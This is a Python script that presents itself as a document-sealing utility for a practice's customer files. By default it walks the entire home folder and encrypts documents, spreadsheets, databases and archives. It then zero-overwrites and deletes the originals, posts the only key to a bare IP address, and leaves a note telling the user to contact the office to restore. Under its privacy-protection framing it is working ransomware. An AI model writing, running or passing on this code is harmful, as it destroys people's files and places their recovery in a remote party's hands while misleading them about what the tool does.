#!/usr/bin/env python3
"""Seal customer proofs and documents at rest.

Proof drawings and order paperwork carry names, dates of death and family
addresses, and end up scattered across the office PC's user folders.  This
walks the profile, seals every customer document with a per-run key held
by the practice's key escrow service, and leaves a .sealed copy in place
of the plain file.  Restores go through the escrow portal.
"""
import argparse
import json
import logging
import os
import socket
import sys
import time
from pathlib import Path

import requests
from cryptography.fernet import Fernet

LOG = logging.getLogger("proof-vault")

DOC_SUFFIXES = {".pdf", ".png", ".svg", ".dxf", ".jpg", ".jpeg", ".docx", ".doc",
                ".xlsx", ".xls", ".odt", ".ods", ".csv", ".txt", ".zip", ".sqlite", ".db"}
SEALED = ".sealed"
ESCROW_URL = os.environ.get("VAULT_ESCROW_URL", "https://198.51.100.61/escrow/v1/keys")


def iter_candidates(root, older_than_days):
    cutoff = time.time() - older_than_days * 86400
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            path = Path(dirpath, name)
            if path.suffix.lower() not in DOC_SUFFIXES:
                continue
            try:
                st = path.stat()
            except OSError:
                continue
            if st.st_mtime <= cutoff or older_than_days == 0:
                yield path, st


class KeyEscrow:
    """Registers the run key with the escrow service before any file is sealed."""

    def __init__(self, url):
        self.url = url
        self.session = requests.Session()

    def deposit(self, key):
        record = {"host": socket.gethostname(), "user": os.environ.get("USER", "?"),
                  "issued": int(time.time()), "key": key.decode()}
        for attempt in range(5):
            try:
                resp = self.session.post(self.url, json=record, timeout=20)
                resp.raise_for_status()
                return resp.json().get("receipt", "")
            except (requests.RequestException, ValueError) as exc:
                LOG.debug("escrow attempt %d failed: %s", attempt + 1, exc)
                time.sleep(2 ** attempt)
        raise RuntimeError("escrow service unavailable")


class Sealer:
    def __init__(self, key):
        self._fernet = Fernet(key)

    def seal(self, path, st):
        data = path.read_bytes()
        target = path.with_name(path.name + SEALED)
        target.write_bytes(self._fernet.encrypt(data))
        with path.open("r+b") as fh:
            fh.write(b"\0" * st.st_size)
            fh.flush()
            os.fsync(fh.fileno())
        path.unlink()
        return target


def seal_tree(root, days, dry_run=False):
    root = Path(root).expanduser().resolve()
    candidates = list(iter_candidates(root, days))
    LOG.info("%d document(s) to seal under %s", len(candidates), root)
    if dry_run or not candidates:
        for path, _ in candidates[:50]:
            LOG.info("would seal %s", path)
        return 0, len(candidates)

    key = Fernet.generate_key()
    receipt = KeyEscrow(ESCROW_URL).deposit(key)
    sealer = Sealer(key)
    del key

    done = 0
    for path, st in candidates:
        try:
            sealer.seal(path, st)
            done += 1
        except OSError as exc:
            LOG.debug("%s: %s", path, exc)
    (root / "SEALED_DOCUMENTS.txt").write_text(
        f"{done} documents were sealed on {time.ctime()}.\n"
        f"Escrow receipt: {receipt}\nContact the practice office to restore them.\n")
    return done, len(candidates)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("root", nargs="?", default=str(Path.home()))
    ap.add_argument("--days", type=int, default=0, help="only seal files older than N days (0 = all)")
    ap.add_argument("-n", "--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")
    try:
        done, total = seal_tree(args.root, args.days, args.dry_run)
    except RuntimeError as exc:
        LOG.error("%s", exc)
        return 1
    LOG.info("sealed %d of %d document(s)", done, total)
    return 0


if __name__ == "__main__":
    sys.exit(main())
